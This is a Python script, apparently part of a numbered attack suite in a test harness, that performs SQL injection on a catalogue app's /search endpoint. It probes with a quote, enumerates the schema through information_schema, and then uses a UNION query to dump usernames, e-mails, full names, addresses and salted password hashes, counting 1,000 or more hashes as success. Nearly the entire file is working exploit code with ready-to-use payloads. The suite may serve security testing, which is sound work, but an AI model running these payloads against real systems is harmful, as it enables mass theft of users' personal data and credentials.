#!/usr/bin/env python3
"""Attack 2 — SQL injection in the product search, from outside: dumps the users table.

catalogue's /search pastes the search term into its SQL. The attacker probes with a quote (the error comes back),
enumerates the schema through information_schema, then UNIONs the users table into the results: every username,
e-mail, name, address and salted password hash comes back as "products". Succeeds when user rows with password
hashes came back (at least 1,000 of them).

  2-sql-injection.py
"""

import json
import re
import time
import urllib.error
import urllib.parse
import urllib.request

from _common import URL, Attack, log


def search(q):
    url = f"{URL}/search?" + urllib.parse.urlencode({"q": q})
    req = urllib.request.Request(url, headers={"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"})
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, json.loads(r.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read() or b"{}")


def main():
    with Attack("sql-injection") as atk:
        status, body = search("tea'")
        log(f"probe with a quote: {status} {body.get('error', '')[:80]}")
        time.sleep(1)
        status, body = search("zz' UNION SELECT 0, table_name, column_name, data_type, 0, 0 "
                              "FROM information_schema.columns WHERE table_schema = 'public'--")
        cols = [(r[1], r[2]) for r in body.get("results", [])]
        log(f"schema: {len(cols)} columns, users has {[c for t, c in cols if t == 'users']}")
        time.sleep(1)
        status, body = search("zz' UNION SELECT id, username, email || ' | ' || full_name || ' | ' || address, "
                              "password_hash || ':' || salt, 0, 0 FROM users--")
        rows = body.get("results", [])
        hashes = [r for r in rows if re.fullmatch(r"[0-9a-f]{64}:[0-9a-f]{16}", r[3] or "")]
        log(f"dump: HTTP {status}, {len(rows)} rows, {len(hashes)} with password hashes; first: {rows[:1]}")
        atk.detail = {"rows": len(rows), "with_hashes": len(hashes), "sample": rows[:2]}
        atk.ok = len(hashes) >= 1000


if __name__ == "__main__":
    main()
